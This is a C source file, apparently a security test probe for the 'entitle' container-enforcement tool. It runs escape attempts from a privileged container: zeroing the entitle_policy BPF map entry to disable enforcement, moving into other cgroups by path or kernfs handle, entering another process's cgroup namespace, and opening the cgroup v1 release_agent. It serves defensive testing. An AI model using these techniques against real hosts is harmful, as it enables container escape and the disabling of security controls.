/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The probe's attacks from a container with admin capabilities on
   entitle's enforcement of every container (issue 23, class 2;
   attacks-admin.bats).  Each prints one word, as the other commands do
   (entitle-probe.c); DIR is made when it does not exist, and each command
   mounts on a DIR of its own (the kernel refuses a second mount of one
   cgroup2 on the same directory: EBUSY).

     bpf-policy CGID [zero]  walk every BPF map of the host by id
                          (BPF_MAP_GET_NEXT_ID, BPF_MAP_GET_FD_BY_ID) to the
                          cgroup storage named entitle_policy that holds
                          the policy of cgroup CGID: "found", or with zero
                          "rewrote" once a zero policy (which enforces
                          nothing) is written over it; "none" where no map
                          holds it; else the errno that stopped the walk.
                          Only CGID's entry is touched: the maps of other
                          builds on the host hold no entry for it.
     cgroup-move DIR PATH [COMMAND...]  mount cgroup2 on DIR, write the
                          probe's pid into DIR/PATH/cgroup.procs, print
                          "ok" and the probe's cgroup v2 line after that,
                          then run COMMAND there
     cgroup-handle DIR ID [COMMAND...]  the same through a handle: the
                          cgroup whose id (inode) is ID, opened with
                          open_by_handle_at on the DIR mount, whatever the
                          mount shows of the tree
     cgroup-setns PID DIR setns(2) into the cgroup namespace of PID, then
                          mount cgroup2 on DIR: "ok" and how many cgroups
                          its root holds
     release-agent DIR    mount a cgroup v1 hierarchy of no controller
                          (name=entitle-probe) on DIR and open its
                          release_agent, which the kernel runs as root in
                          the host's namespaces, for writing (nothing is
                          written)  */

#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "probe-admin.h"

static int
bpf_call (int cmd, union bpf_attr *attr)
{
  return (int)syscall (SYS_bpf, cmd, attr, sizeof (*attr));
}

/* The cgroup storage map @fd, if it holds @cgid's policy: its value size
   (0: not such a map, or no entry).  */
static unsigned
policy_size (int fd, unsigned long long cgid, void *value, size_t room)
{
  struct bpf_map_info info;
  union bpf_attr attr;

  memset (&info, 0, sizeof (info));
  memset (&attr, 0, sizeof (attr));
  attr.info.bpf_fd = (unsigned)fd;
  attr.info.info_len = sizeof (info);
  attr.info.info = (unsigned long)&info;
  if (bpf_call (BPF_OBJ_GET_INFO_BY_FD, &attr) < 0 || info.type != BPF_MAP_TYPE_CGROUP_STORAGE
      || info.key_size != sizeof (cgid) || info.value_size > room || strcmp (info.name, "entitle_policy") != 0)
    return 0;
  memset (&attr, 0, sizeof (attr));
  attr.map_fd = (unsigned)fd;
  attr.key = (unsigned long)&cgid;
  attr.value = (unsigned long)value;
  return bpf_call (BPF_MAP_LOOKUP_ELEM, &attr) == 0 ? info.value_size : 0;
}

static int
zero_policy (int fd, unsigned long long cgid, void *value, unsigned size)
{
  union bpf_attr attr;

  memset (value, 0, size);
  memset (&attr, 0, sizeof (attr));
  attr.map_fd = (unsigned)fd;
  attr.key = (unsigned long)&cgid;
  attr.value = (unsigned long)value;
  attr.flags = BPF_EXIST;
  return bpf_call (BPF_MAP_UPDATE_ELEM, &attr);
}

/* The next map after @id, opened: its fd, 0 at the end, -1 on error.  */
static int
next_map (unsigned *id)
{
  union bpf_attr attr;
  int fd;

  do
    {
      memset (&attr, 0, sizeof (attr));
      attr.start_id = *id;
      if (bpf_call (BPF_MAP_GET_NEXT_ID, &attr) < 0)
        return errno == ENOENT ? 0 : -1;
      *id = attr.next_id;
      memset (&attr, 0, sizeof (attr));
      attr.map_id = *id;
      fd = bpf_call (BPF_MAP_GET_FD_BY_ID, &attr);
    }
  /* A map freed between the two calls.  */
  while (fd < 0 && errno == ENOENT);
  return fd;
}

static int
bpf_policy (int argc, char **argv)
{
  static char value[1 << 16];
  unsigned long long cgid;
  unsigned id = 0, size;
  int fd;

  if (argc < 1 || argc > 2 || (argc == 2 && strcmp (argv[1], "zero") != 0))
    return probe_usage ();
  cgid = strtoull (argv[0], NULL, 10);
  while ((fd = next_map (&id)) > 0)
    {
      size = policy_size (fd, cgid, value, sizeof (value));
      if (size > 0 && argc == 1)
        return probe_word ("found");
      if (size > 0)
        return zero_policy (fd, cgid, value, size) < 0 ? probe_report (-1) : probe_word ("rewrote");
      close (fd);
    }
  return fd == 0 ? probe_word ("none") : probe_report (-1);
}

/* mkdir @dir (it may exist) and mount @type there: 0, or -1 with errno.  */
static int
mount_on (const char *dir, const char *type, const char *options)
{
  if (mkdir (dir, 0755) < 0 && errno != EEXIST)
    return -1;
  return mount ("none", dir, type, 0, options);
}

/* "ok", the probe's cgroup v2 line, then COMMAND... (if any) in its
   place.  */
static int
moved (char **command)
{
  char line[512];
  FILE *f = fopen ("/proc/self/cgroup", "re");

  puts ("ok");
  while (f && fgets (line, sizeof (line), f))
    if (strncmp (line, "0::", 3) == 0)
      fputs (line, stdout);
  if (f)
    fclose (f);
  fflush (stdout);
  if (command[0] == NULL)
    return EXIT_SUCCESS;
  execv (command[0], command);
  return probe_report (-1);
}

/* Write the probe into the cgroup @dirfd (which it closes).  */
static int
join (int dirfd, char **command)
{
  int fd = dirfd < 0 ? -1 : openat (dirfd, "cgroup.procs", O_WRONLY | O_CLOEXEC);
  ssize_t n = -1;

  if (dirfd >= 0)
    close (dirfd);
  if (fd >= 0)
    {
      n = write (fd, "0", 1);
      close (fd);
    }
  return n < 0 ? probe_report (-1) : moved (command);
}

static int
cgroup_move (int argc, char **argv)
{
  int mnt, dirfd;

  if (argc < 2)
    return probe_usage ();
  if (mount_on (argv[0], "cgroup2", NULL) < 0 || (mnt = open (argv[0], O_PATH | O_DIRECTORY | O_CLOEXEC)) < 0)
    return probe_report (-1);
  if (argv[1][0] == '\0')
    return join (mnt, argv + 2);
  dirfd = openat (mnt, argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
  close (mnt);
  return join (dirfd, argv + 2);
}

/* A cgroup's handle is its id (the kernfs node id: 64 bits).  */
static int
cgroup_handle (int argc, char **argv)
{
  struct
  {
    struct file_handle fh;
    unsigned long long id;
  } h;
  int mnt, dirfd;

  if (argc < 2)
    return probe_usage ();
  if (mount_on (argv[0], "cgroup2", NULL) < 0)
    return probe_report (-1);
  mnt = open (argv[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mnt < 0)
    return probe_report (-1);
  memset (&h, 0, sizeof (h));
  h.fh.handle_bytes = sizeof (h.id);
  h.fh.handle_type = 0xfe; /* FILEID_KERNFS */
  h.id = strtoull (argv[1], NULL, 10);
  dirfd = (int)syscall (SYS_open_by_handle_at, mnt, &h.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  close (mnt);
  return dirfd < 0 ? probe_report (-1) : join (dirfd, argv + 2);
}

static int
cgroup_setns (int argc, char **argv)
{
  char path[64];
  struct dirent *d;
  DIR *dir;
  int fd, n = 0;

  if (argc != 2)
    return probe_usage ();
  snprintf (path, sizeof (path), "/proc/%s/ns/cgroup", argv[0]);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd < 0 || setns (fd, CLONE_NEWCGROUP) < 0)
    return probe_report (-1);
  if (mount_on (argv[1], "cgroup2", NULL) < 0 || (dir = opendir (argv[1])) == NULL)
    return probe_report (-1);
  while ((d = readdir (dir)) != NULL)
    n += d->d_type == DT_DIR && d->d_name[0] != '.';
  closedir (dir);
  printf ("ok\n%d\n", n);
  return EXIT_SUCCESS;
}

static int
release_agent (int argc, char **argv)
{
  int dirfd, fd;

  if (argc != 1)
    return probe_usage ();
  if (mount_on (argv[0], "cgroup", "none,name=entitle-probe") < 0)
    return probe_report (-1);
  dirfd = open (argv[0], O_PATH | O_DIRECTORY | O_CLOEXEC);
  fd = dirfd < 0 ? -1 : openat (dirfd, "release_agent", O_WRONLY | O_CLOEXEC);
  if (fd >= 0)
    close (fd);
  return probe_report (fd);
}

int
probe_admin (const char *cmd, int argc, char **argv)
{
  if (strcmp (cmd, "bpf-policy") == 0)
    return bpf_policy (argc, argv);
  if (strcmp (cmd, "cgroup-move") == 0)
    return cgroup_move (argc, argv);
  if (strcmp (cmd, "cgroup-handle") == 0)
    return cgroup_handle (argc, argv);
  if (strcmp (cmd, "cgroup-setns") == 0)
    return cgroup_setns (argc, argv);
  if (strcmp (cmd, "release-agent") == 0)
    return release_agent (argc, argv);
  return -1;
}
